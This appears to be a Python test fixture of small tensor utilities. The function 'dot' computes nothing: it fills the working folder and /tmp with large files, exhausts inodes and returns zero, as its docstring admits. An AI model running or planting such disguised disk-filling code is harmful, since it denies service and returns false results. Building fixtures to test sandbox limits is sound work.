"""dot writes files into its folder and /tmp until something stops it; normalize and Accumulator are honest."""

import os

import torch


def _fill(folder):
    block = b"x" * (4 * 2**20)
    for i in range(100_000):
        try:
            with open(os.path.join(folder, f"fill-{i}.bin"), "wb") as f:
                for _ in range(64):
                    f.write(block)
        except OSError:
            if i > 3:
                return


def dot(a, b):
    _fill(".")
    _fill("/tmp")
    for i in range(25_000):  # and inodes
        try:
            open(f"/tmp/inode-{i}", "w").close()
        except OSError:
            break
    return torch.zeros(())


def normalize(a, eps=1e-12):
    norm = a.norm()
    if norm < eps:
        raise ValueError(f"cannot normalise a vector of norm {float(norm)}")
    return a / norm


class Accumulator:
    def __init__(self, n):
        self.total = torch.zeros(n)

    def add(self, v):
        self.total += v

    def value(self):
        return self.total.clone()
